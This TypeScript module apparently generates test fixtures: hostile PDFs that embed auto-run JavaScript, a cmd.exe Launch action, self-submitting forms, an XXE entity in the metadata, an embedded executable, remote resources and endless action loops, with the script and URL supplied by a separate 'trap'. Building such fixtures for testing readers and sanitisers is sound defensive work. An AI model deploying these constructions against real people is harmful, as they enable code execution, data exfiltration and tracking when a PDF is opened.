import type { Trap } from './letters.ts';

/** What a PDF could do on its own: the entries of the catalogue, of the page and of further objects; `%P` is the page. */
interface Attack {
  readonly catalogue?: string;
  readonly page?: string;
  readonly objects?: readonly string[];
}

const literal = (text: string): string => `(${text.replaceAll(/[\\()]/g, String.raw`\$&`)})`;

/** Objects of an attack begin with this number. */
const FIRST = 6;

const ATTACKS: Readonly<Record<string, (trap: Trap) => Attack>> = {
  'a script when it is opened': ({ js }) => ({ catalogue: `/OpenAction << /S /JavaScript /JS ${literal(js)} >>` }),
  'a script by its name': ({ js }) => ({
    catalogue: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${literal(js)} >>] >> >>`,
  }),
  'a script in a stream': ({ js }) => ({
    catalogue: `/OpenAction << /S /JavaScript /JS ${FIRST} 0 R >>`,
    objects: [`<< /Length ${js.length} >>\nstream\n${js}\nendstream`],
  }),
  'scripts of the document’s events': ({ js }) => ({
    catalogue: `/AA << ${['WC', 'WS', 'DS', 'WP', 'DP'].map((event) => `/${event} << /S /JavaScript /JS ${literal(js)} >>`).join(' ')} >>`,
  }),
  'scripts of the page’s events': ({ js }) => ({
    page: `/AA << /O << /S /JavaScript /JS ${literal(js)} >> /C << /S /JavaScript /JS ${literal(js)} >> >>`,
  }),
  'a program to be started': ({ url }) => ({
    catalogue: `/OpenAction << /S /Launch /F ${literal(url)} /Win << /F (cmd.exe) /P (/c start ${url}) >> /NewWindow true >>`,
  }),
  'an address to go to': ({ url }) => ({ catalogue: `/OpenAction << /S /URI /URI ${literal(url)} >>` }),
  'a link': ({ url, js }) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI ${literal(url)} >> >>
      << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI ${literal(`javascript:${js}`)} >> >>]`,
  }),
  'a place in another file': ({ url }) => ({
    catalogue: `/OpenAction << /S /GoToR /F << /FS /URL /F ${literal(url)} >> /D [0 /Fit] >>`,
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /GoToE /F ${literal(url)} /D [0 /Fit] >> >>]`,
  }),
  'a form that sends itself': ({ url }) => ({
    catalogue: `/OpenAction << /S /SubmitForm /F << /FS /URL /F ${literal(url)} >> /Flags 4 >> /AcroForm << /Fields [${FIRST} 0 R] /NeedAppearances true >>`,
    page: `/Annots [${FIRST} 0 R]`,
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (secret) /Rect [0 0 200 20] /AA << /F << /S /SubmitForm /F ${literal(url)} >> >> >>`,
    ],
  }),
  'data to be imported': ({ url }) => ({ catalogue: `/OpenAction << /S /ImportData /F ${literal(url)} >>` }),
  'a form in XML': ({ url, js }) => {
    const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><event activity="initialize"><script contentType="application/x-javascript">${js}</script></event><event activity="ready"><submit target="${url}"/></event><value><image href="${url}"/></value></field></subform></template></xdp:xdp>`;
    return {
      catalogue: `/AcroForm << /XFA ${FIRST} 0 R /Fields [] >> /NeedsRendering true`,
      objects: [`<< /Length ${xfa.length} >>\nstream\n${xfa}\nendstream`],
    };
  },
  'a file within': ({ js }) => ({
    catalogue: `/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F ${FIRST} 0 R >> >>] >> >> /Collection << /View /D >>`,
    page: `/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] /FS << /Type /Filespec /F (a.exe) /EF << /F ${FIRST} 0 R >> >> >>]`,
    objects: [`<< /Type /EmbeddedFile /Length ${js.length} >>\nstream\n${js}\nendstream`],
  }),
  'a stream from elsewhere': ({ url }) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Stamp /Rect [0 0 100 100] /AP << /N ${FIRST} 0 R >> >>]`,
    objects: [
      `<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /F << /FS /URL /F ${literal(url)} >> /FFilter /FlateDecode /Length 0 >>\nstream\n\nendstream`,
    ],
  }),
  'a picture from elsewhere': ({ url }) => ({
    page: `/Resources << /Font << /F1 3 0 R >> /XObject << /I ${FIRST} 0 R >> >>`,
    objects: [
      `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F ${literal(url)} >> /Alternates [<< /Image << /F ${literal(url)} >> >>] /OPI << /2.0 << /F ${literal(url)} >> >> /Length 0 >>\nstream\n\nendstream`,
    ],
  }),
  'a film and a sound': ({ url, js }) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 /JS ${literal(js)} /R << /S /MR /C << /S /MCD /D ${literal(url)} /CT (video/mp4) >> >> >> >>
      << /Type /Annot /Subtype /Movie /Rect [0 0 10 10] /Movie << /F ${literal(url)} >> /A true >> << /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >> << /Type /Annot /Subtype /3D /Rect [0 0 10 10] >>]`,
  }),
  'actions that follow one another for ever': ({ js }) => ({
    catalogue: `/OpenAction ${FIRST} 0 R`,
    objects: [`<< /S /JavaScript /JS ${literal(js)} /Next ${FIRST} 0 R >>`],
  }),
  'a named action and a layer that hides': () => ({
    catalogue: `/OpenAction << /S /Named /N /Print >> /OCProperties << /OCGs [] /D << /AS [] >> >> /ViewerPreferences << /HideMenubar true /HideWindowUI true >> /PageMode /FullScreen`,
  }),
  'a metadata file of its own': ({ url }) => {
    const xmp = `<?xpacket begin="" id=""?><!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>`;
    return {
      catalogue: `/Metadata ${FIRST} 0 R`,
      objects: [`<< /Type /Metadata /Subtype /XML /Length ${xmp.length} >>\nstream\n${xmp}\nendstream`],
    };
  },
  'a base for all its addresses': ({ url }) => ({
    catalogue: `/URI << /Base ${literal(url)} >>`,
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (x) /IsMap true >> >>]`,
  }),
  'a font matrix with a script': ({ js }) => ({
    page: `/Resources << /Font << /F1 ${FIRST} 0 R >> >>`,
    objects: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [0.001 0 0 0.001 0 ${literal(`0); ${js}; (`)}] >>`,
    ],
  }),
};

export interface HostilePdf {
  readonly name: string;
  readonly bytes: Buffer;
}

/** One page with words, and the attack. @param trapOf by the number of the file */
export function hostilePdfs(words: string, trapOf: (pdf: number) => Trap): readonly HostilePdf[] {
  return Object.entries(ATTACKS).map(([name, attack], index) => ({ name, bytes: pdf(words, attack(trapOf(index))) }));
}

function pdf(words: string, { catalogue = '', page = '', objects = [] }: Attack): Buffer {
  const text = `BT /F1 14 Tf 50 700 Td ${literal(words)} Tj ET`;
  const resources = page.includes('/Resources') ? '' : '/Resources << /Font << /F1 3 0 R >> >>';
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R ${resources} ${page} >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    ...objects,
  ];
  let file = '%PDF-1.7\n';
  const offsets = all.map((object, index) => {
    const at = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
